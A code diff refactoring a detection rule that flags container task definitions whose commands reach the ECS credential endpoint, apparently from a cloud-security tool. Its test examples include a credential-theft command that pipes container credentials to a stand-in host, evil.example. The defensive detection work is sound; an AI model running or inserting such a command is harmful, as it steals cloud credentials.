@@ -8,21 +8,10 @@ import re
 from collections.abc import Iterator
 from typing import Any
 
-from trailwarden import (
-    ATTEMPTED,
-    NOBODY,
-    Event,
-    Example,
-    Match,
-    Outcome,
-    Rule,
-    Severity,
-    Tactic,
-    alerts,
-    silent,
-)
+from trailwarden import ATTEMPTED, NOBODY, Event, Match, Outcome, Rule, Severity, Tactic
 from trailwarden.cloudtrail.samples import Fields, request
-from trailwarden.cloudtrail.values import Record, dig, listed, text_of
+from trailwarden.cloudtrail.values import dig, listed, text_of
+from trailwarden.examples import Examples, Record, alerts, silent
 
 ENDPOINT = re.compile(
     r"169\.254\.170\.2(?!\d)(?!/v\d/(?:metadata|stats|task))"
@@ -36,13 +25,12 @@ CONTAINERS = (
     "overrides.containerOverrides",
 )
 COMMANDS = ("command", "entryPoint", "healthCheck.command")
-NAMES = ("family", "taskDefinition", "jobDefinitionName", "jobName")
 
 
 def detect(event: Event) -> Match | None:
     if not ENDPOINT.search(" ".join(words_of(event))):
         return None
-    thing = next(filter(None, map(event.request, NAMES)), "")
+    thing = event.request("family", "taskDefinition", "jobDefinitionName", "jobName")
     severity = None if event.outcome is Outcome.SUCCEEDED else Severity.MEDIUM
     return Match(f"{event.name} {thing}", severity, thing)
 
@@ -76,7 +64,7 @@ RULE = Rule(
 STEAL = "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- evil.example"
 
 
-def examples() -> Iterator[Example]:
+def examples() -> Examples:
     theft = defined(STEAL)
     yield alerts("in a definition", theft, severity=Severity.HIGH, subject="app")
     failed = defined(STEAL, fields={"errorCode": "ClientException"})
